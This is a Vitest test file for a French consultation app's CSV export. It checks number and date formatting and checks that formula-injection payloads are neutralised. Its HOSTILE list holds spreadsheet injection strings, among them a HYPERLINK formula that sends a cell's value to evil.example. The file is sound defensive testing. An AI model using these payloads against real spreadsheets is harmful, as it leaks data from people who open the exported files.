import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvDateTime, neutraliseCell, writeCsv } from './csv';
import { fieldName } from './consultations/answers';
import { enterResponse } from './consultations/entry';
import { buildExport, toCsv } from './consultations/export';
import { buildSampleConsultation, formOf, setUpConsultations } from './consultations/testing';
import { toCsv as openDataCsv } from './fiches/open-data';

const HOSTILE = [
	'=HYPERLINK("http://evil.example/?"&B2,"Cliquez")',
	'@SUM(A1:A9)',
	'+33 6 12 34 56 78',
	'-2+3',
	'\t=1+1',
	'\r=1+1'
];

function readBack(csv: string, delimiter = ';'): string[][] {
	return parse(csv, { delimiter, bom: true, relax_column_count: true });
}

describe('the CSV writer', () => {
	it('writes French numbers in the `;` files and Paris time for instants', () => {
		expect(
			readBack(
				writeCsv([
					['a', 'b'],
					[12.5, 35]
				])
			)[1]
		).toEqual(['12,5', '35']);
		expect(readBack(writeCsv([[12.5]], { delimiter: ',' }), ',')[0]).toEqual(['12.5']);
		expect(csvDateTime(new Date('2026-07-01T12:30:00Z'))).toBe('2026-07-01 14:30');
		expect(csvDateTime(new Date('2026-12-01T12:30:00Z'))).toBe('2026-12-01 13:30');
	});

	it('neutralises every cell a spreadsheet would run, and keeps it readable', () => {
		const csv = writeCsv([['texte', 'nombre'], ...HOSTILE.map((text) => [text, -3])]);
		expect(csv.startsWith('\uFEFF')).toBe(true);
		const rows = readBack(csv);
		for (const [i, text] of HOSTILE.entries()) {
			expect(rows[i + 1][0]).toBe(`'${text}`);
			expect(rows[i + 1][1]).toBe('-3');
		}
		expect(neutraliseCell('Des bus = plus de liberté')).toBe('Des bus = plus de liberté');
	});

	it('a free-text answer comes out of the consultation export as text', async () => {
		const { db, agent } = await setUpConsultations();
		const sample = await buildSampleConsultation(db, agent);
		const [q1] = sample.questionnaire.sections[0].questions;
		const idea = sample.questionnaire.sections[1].questions.find((q) => q.kind === 'texte_long')!;
		const outcome = await enterResponse(
			db,
			agent,
			sample.consultation,
			sample.questionnaire,
			formOf({
				channel: 'telephone',
				submissionKey: crypto.randomUUID().replaceAll('-', ''),
				[fieldName(q1)]: String(q1.options[0].id),
				[fieldName(idea)]: HOSTILE[0]
			}),
			new Set()
		);
		expect(outcome.ok).toBe(true);
		const table = await buildExport(db, agent, sample.consultation.id, { personal: false });
		const rows = readBack(toCsv(table));
		expect(rows[1]).toContain(`'${HOSTILE[0]}`);
		expect(rows.flat().some((cell) => /^[=+@]/.test(cell))).toBe(false);
	});

	it('the open data keeps its comma-separated format', () => {
		const csv = openDataCsv([]);
		expect(readBack(csv, ',')[0][0]).toBe('ref');
	});
});
